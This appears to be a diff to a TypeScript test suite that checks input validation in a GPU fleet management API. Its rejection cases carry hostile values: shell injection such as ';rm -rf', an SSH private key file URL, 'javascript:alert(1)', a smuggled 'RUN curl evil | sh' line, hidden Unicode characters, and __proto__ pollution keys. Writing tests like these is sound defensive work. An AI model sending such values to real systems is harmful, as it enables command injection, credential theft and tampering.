@@ -27,6 +27,9 @@ const CASES: [string, string, unknown, number, RegExp][] = [
   ["POST", "/up?n=0", undefined, 400, /^n: must be an integer from 1/],
   ["POST", "/up?n=1&gpu=;rm", undefined, 400, /^gpu: GPU names are/],
   ["POST", "/up?n=1&gpu=RTX%203090%3Brm%20-rf", undefined, 400, /^gpu: /],
+  // Underscores only would be "" once spaced: any GPU at all, not the one-off model asked for.
+  ["POST", "/up?n=1&gpu=__", undefined, 400, /^gpu: GPU names are .* starting with a letter or digit/],
+  ["POST", "/up?n=1&gpu=_", undefined, 400, /^gpu: /],
   ["GET", "/instances/1/logs?tail=0", undefined, 400, /^tail: must be an integer from 1 to 1000/],
   ["GET", "/instances/1/logs?tail=1001", undefined, 400, /^tail: /],
   ["GET", "/instances/abc/logs", undefined, 400, /^id: /],
@@ -44,7 +47,9 @@ const CASES: [string, string, unknown, number, RegExp][] = [
   ["PUT", "/hosts/1", { reason: "a\nb" }, 400, /^reason: must be one line/],
   ["PUT", "/hosts/1", { reason: "x".repeat(201) }, 400, /^reason: at most 200/],
   ["PUT", "/hosts/1", { reason: "slow", scope: "world" }, 400, /^scope: /],
-  ["PUT", "/hosts/1", { reason: "slow", sneaky: 1 }, 400, /sneaky/],
+  ["PUT", "/hosts/1", { reason: "slow", sneaky: 1 }, 400, /^sneaky: unknown field$/],
+  ["PUT", "/hosts/1", [], 400, /^body: /],
+  ["PUT", "/hosts/1", "\"slow\"", 400, /^body: /],
   ["PUT", "/hosts/0", { reason: "slow" }, 400, /^machineId: /],
   ["PUT", "/hosts/1?fleet=nosuchfleet", { reason: "slow" }, 404, /^fleet: no fleet named nosuchfleet/],
 ];
@@ -82,6 +87,54 @@ describe("bad input", () => {
     const cross = await call("/fleets/zeb", { method: "PUT", body: { ...config, workers: 20, uploadInterval: 240 } });
     expect(cross.status).toBe(400);
     expect((cross.json() as { message: string }).message).toMatch(/uploadInterval \(ZEB_UPLOAD_INTERVAL\)/);
+  });
+
+  it("PUT /fleets refuses a code repo that is not an https, http or git URL, a GPU listed twice, an image that is not one plain reference, a __proto__ key; naming the field, storing nothing", async () => {
+    const { config } = await callJson<ConfigBody>("/fleets/zeb");
+    const json = JSON.stringify(config);
+    const bodies: [string, RegExp][] = [
+      [JSON.stringify({ ...config, codeRepo: "file:///root/.ssh/id_rsa" }), /^codeRepo \(ZEB_CODE_REPO\): must be an https:\/\/, http:\/\/ or git:\/\/ URL/],
+      [JSON.stringify({ ...config, codeRepo: "javascript:alert(1)" }), /^codeRepo \(ZEB_CODE_REPO\): /],
+      [JSON.stringify({ ...config, codeRepo: "ssh://git@github.com/x/y.git" }), /^codeRepo \(ZEB_CODE_REPO\): /],
+      [JSON.stringify({ ...config, gpus: ["RTX_3060", "RTX 3060"] }), /^gpus \(ZEB_GPUS\): lists RTX 3060 more than once/],
+      [JSON.stringify({ ...config, image: "pytorch/pytorch:2.6.0\nRUN curl evil | sh" }), /^image \(ZEB_IMAGE\): an image reference/],
+      [JSON.stringify({ ...config, image: "pytorch/py\u202etorch" }), /^image \(ZEB_IMAGE\): /],
+      [JSON.stringify({ ...config, image: "pytorch/pytorch\u200b" }), /^image \(ZEB_IMAGE\): /],
+      [JSON.stringify({ ...config, image: "pytorch/pytorch --privileged" }), /^image \(ZEB_IMAGE\): /],
+      // JSON.parse makes __proto__ an own key, which zod's record would drop without a word.
+      [json.replace(/"gpuPriors":\{/, '"gpuPriors":{"__proto__":{"RTX 3060":100},'), /^gpuPriors\.__proto__ \(ZEB_GPU_PRIORS\): GPU names are/],
+      [json.replace(/^\{/, '{"__proto__":{"paused":true},'), /^__proto__: unknown field$/],
+      [json.replace(/"gpuPriors":\{/, '"gpuPriors":{"_hidden":9,'), /^gpuPriors\._hidden \(ZEB_GPU_PRIORS\): GPU names are/],
+    ];
+    for (const [body, message] of bodies) {
+      for (const fleet of ["zeb", "new-fleet"]) {
+        const before = await snapshot();
+        const res = await call(`/fleets/${fleet}`, { method: "PUT", body });
+        expect(res.status, `${fleet}: ${body.slice(0, 80)}: ${res.text}`).toBe(400);
+        expect((res.json() as { error: string; message: string }).message).toMatch(message);
+        expect(await snapshot()).toEqual(before);
+      }
+    }
+    expect((await callJson<{ fleets: { name: string }[] }>("/fleets")).fleets.map((f) => f.name)).not.toContain("new-fleet");
+    // The same settings written correctly are accepted.
+    const ok = await call("/fleets/ok-fleet", { method: "PUT", body: { ...config, codeRepo: "git://example.org/x/y.git", gpus: ["RTX_3060", "RTX 3090"], gpuPriors: { RTX_3060: 4 } } });
+    expect(ok.status, ok.text).toBe(200);
+  });
+
+  it("/up says how many more n may be at the fleet's target, and changes nothing", async () => {
+    const { config } = await callJson<ConfigBody>("/fleets/zeb");
+    await callJson("/fleets/up-range", { method: "PUT", body: { ...config, workers: 4, maxWorkers: 32, uploadInterval: 240, paused: true } });
+    const target = async () => (await callJson<ConfigBody>("/fleets/up-range")).config.workers;
+    for (const [n, message] of [
+      [29, /^n: at most 28 more: the target is 4 and maxWorkers \(ZEB_MAX_WORKERS\) is 32$/],
+      [1000, /^n: at most 28 more/],
+      [3, /^n: 3 more would make 7 workers uploading every 240s, over Hugging Face's 128 commits\/hour per repository; set uploadInterval \(ZEB_UPLOAD_INTERVAL\) to at least 252s first$/],
+    ] as const) {
+      const res = await call(`/up?fleet=up-range&n=${n}`, { method: "POST" });
+      expect(res.status, res.text).toBe(400);
+      expect((res.json() as { message: string }).message).toMatch(message);
+      expect(await target()).toBe(4);
+    }
   });
 
   it("refuses a scale that would break the Hugging Face commit budget, naming the interval that allows it", async () => {
